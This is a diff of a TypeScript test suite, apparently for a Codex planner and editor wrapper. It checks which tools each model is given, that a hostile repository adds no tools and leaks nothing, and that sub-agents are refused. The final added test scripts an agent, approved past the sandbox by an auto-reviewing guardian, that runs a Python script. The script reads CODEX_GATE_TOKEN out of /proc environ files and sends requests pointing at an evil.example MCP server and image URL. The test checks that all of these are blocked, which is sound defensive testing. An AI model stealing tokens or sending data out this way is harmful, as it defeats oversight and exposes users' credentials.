@@ -1,5 +1,5 @@
 import { spawn } from 'node:child_process';
-import { existsSync, mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:net';
 import { homedir, tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -8,8 +8,18 @@ import { createEditor } from '../../src/codex/editor.ts';
 import { planArguments } from '../../src/codex/environment.ts';
 import { createPlanner } from '../../src/codex/planner.ts';
 import { withSession } from '../../src/codex/session.ts';
-import { assess, type ModelCall, outputs, run, say } from '../support/model/index.ts';
-import { defaultSettings, folder, KEY, PLAN, repository, setting } from './setting.ts';
+import {
+  assess,
+  type Item,
+  type ModelCall,
+  outputs,
+  patch,
+  run,
+  say,
+  tools,
+  update,
+} from '../support/model/index.ts';
+import { catalogue, defaultSettings, folder, KEY, PLAN, repository, setting } from './setting.ts';
 
 const SENTINEL = 'SENTINEL-7f3a';
 
@@ -102,36 +112,70 @@ describe('what a pull request can say to Codex', () => {
   });
 });
 
-describe('the tools of the model', () => {
-  const names = (call: ModelCall | undefined) =>
-    call?.body.tools.map((tool: { name?: string; type: string }) => tool.name ?? tool.type);
+describe('the tools of a model', () => {
+  const DIRECT = ['exec_command', 'write_stdin', 'request_user_input', 'apply_patch'];
+  const THROUGH_CODE = [
+    ...['functions.exec', 'functions.exec apply_patch', 'functions.exec exec_command'],
+    // Of servers that are not there.
+    ...['functions.exec list_mcp_resource_templates', 'functions.exec list_mcp_resources'],
+    ...['functions.exec read_mcp_resource', 'functions.exec write_stdin'],
+    ...['functions.wait', 'functions.request_user_input'],
+  ];
+  const GPT_6 = [...THROUGH_CODE, 'functions.exec clock__curr_time'];
+  const expected = (model: string) => {
+    if (model === 'gpt-5.5') return DIRECT;
+    if (!model.startsWith('gpt-6')) return THROUGH_CODE;
+    return [...GPT_6, 'functions.request_user_input_async'];
+  };
 
-  it('are exactly these while a plan is made', async () => {
-    const { options, model } = await setting({ plan: [PLAN] });
+  it.each([null, ...catalogue()])('%s are exactly these, and no file adds any', async (model) => {
+    const { options, model: scripted } = await setting(
+      { plan: [PLAN], edit: ['done'] },
+      { choice: { model, effort: null } },
+    );
+    const workspace = hostileRepository();
+    const planner = createPlanner({ ...options, enforcement: 'before-write' });
+    const editor = createEditor({ ...options, settings: defaultSettings });
+    await Promise.all([
+      planner.propose({ workspace, prompt: 'Plan\n', anchor: null }),
+      editor.carryOut({ workspace, prompt: 'Do it\n', plan: PLAN, judge: () => null }),
+    ]);
+    expect(scripted.calls.map(({ caller }) => caller).sort()).toEqual(['edit', 'plan']);
+    for (const call of scripted.calls) {
+      expect(tools(call).sort()).toEqual(expected(call.model).sort());
+      expect(call.text).not.toContain(SENTINEL);
+    }
+    expect(existsSync(join(workspace, 'mark'))).toBe(false);
+  });
+});
+
+describe('a sub-agent', () => {
+  /** What the newer models call to have one. */
+  const spawnAgent: Item = {
+    type: 'function_call',
+    namespace: 'collaboration',
+    name: 'spawn_agent',
+    arguments: JSON.stringify({ task_name: 'sub', message: 'Do half of it', fork_turns: 'none' }),
+  };
+  const choice = { model: null, effort: null };
+
+  it('is not to be had while a plan is made', async () => {
+    const { options, model } = await setting({ plan: [spawnAgent, PLAN] }, { choice });
     const planner = createPlanner({ ...options, enforcement: 'before-write' });
     await planner.propose({ workspace: repository(), prompt: 'Plan\n', anchor: null });
-    expect(names(model.calls[0])).toEqual([
-      'exec_command',
-      'write_stdin',
-      'request_user_input',
-      'apply_patch',
-    ]);
+    expect(model.calls).toHaveLength(2);
+    expect(outputs(model.calls[1] as ModelCall)).toEqual([expect.stringContaining('unsupported')]);
   });
 
-  it('are exactly these while a plan is carried out', async () => {
-    const { options, model } = await setting({ edit: ['done'] });
-    await createEditor({ ...options, settings: defaultSettings }).carryOut({
-      workspace: repository(),
-      prompt: 'Do it\n',
-      plan: PLAN,
-      judge: () => null,
-    });
-    expect(names(model.calls[0])).toEqual([
-      'exec_command',
-      'write_stdin',
-      'request_user_input',
-      'apply_patch',
-    ]);
+  it('is not to be had while a plan is carried out', async () => {
+    const steps = [spawnAgent, patch(update('a.txt', 'hello', 'hi')), say('done')];
+    const { options, model } = await setting({ edit: steps }, { choice });
+    const workspace = repository();
+    const editor = createEditor({ ...options, settings: defaultSettings });
+    await editor.carryOut({ workspace, prompt: 'Do it\n', plan: PLAN, judge: () => null });
+    expect(model.calls).toHaveLength(3);
+    expect(outputs(model.calls[1] as ModelCall)).toEqual([expect.stringContaining('unsupported')]);
+    expect(readFileSync(join(workspace, 'a.txt'), 'utf8')).toBe('hi\n');
   });
 });
 
@@ -275,6 +319,51 @@ describe('what a command can reach', () => {
     expect(tried).not.toMatch(/KERNEL|UNMOUNTED/);
     expect(visits()).toBe(0);
     expect(readdirSync(join(workspace, '.git/hooks'))).not.toContain('x');
+  });
+
+  it('that the guardian let out of the sandbox has nothing that is not local for the token', async () => {
+    const body = { model: 'gpt-5.5', store: false, input: 'EXFIL' };
+    const picture = [{ type: 'input_image', image_url: 'https://evil.example/EXFIL' }];
+    const bodies = [
+      { ...body, tools: [{ type: 'mcp', server_url: 'https://evil.example/' }] },
+      { ...body, tools: [{ type: 'web_search' }] },
+      { ...body, input: [{ type: 'message', role: 'user', content: picture }] },
+      { ...body, model: 'gpt-6-astra' },
+    ];
+    const ask = `
+import glob, json, re, urllib.error, urllib.request
+token = None
+for name in glob.glob("/proc/[0-9]*/environ"):
+    found = re.search(rb"CODEX_GATE_TOKEN=(\\w+)", open(name, "rb").read())
+    token = found.group(1).decode() if found else token
+headers = {"authorization": "Bearer " + token, "content-type": "application/json"}
+for body in json.loads('${JSON.stringify(bodies)}'):
+    try:
+        request = urllib.request.Request("http://127.0.0.1:8787/v1/responses", json.dumps(body).encode(), headers)
+        print("ANSWER", urllib.request.urlopen(request).status)
+    except urllib.error.HTTPError as error:
+        print("ANSWER", error.code, error.read().decode())
+`;
+    const { options, model } = await setting({
+      edit: [run(`python3 - <<'EOF'${ask}EOF`, { escalate: 'let me' }), say('done')],
+      guardian: () => assess('allow'),
+    });
+    const settings = {
+      ...defaultSettings,
+      approvals: { policy: 'on-request', reviewer: 'auto_review' },
+    } as const;
+    const editor = createEditor({ ...options, settings });
+    const task = { workspace: repository(), prompt: 'Do it\n', plan: PLAN, judge: () => null };
+    const { warnings } = await editor.carryOut(task);
+    const [seen = ''] = outputs(model.callsOf('edit')[1] as ModelCall);
+    expect(seen.match(/ANSWER \d+/g)).toEqual(bodies.map(() => 'ANSWER 400'));
+    expect(warnings).toEqual([
+      expect.stringContaining('the tool mcp'),
+      expect.stringContaining('the tool web_search'),
+      expect.stringContaining('image_url'),
+      expect.stringContaining('gpt-6-astra'),
+    ]);
+    expect(model.calls.map(({ caller }) => caller)).toEqual(['edit', 'guardian', 'edit']);
   });
 });
 
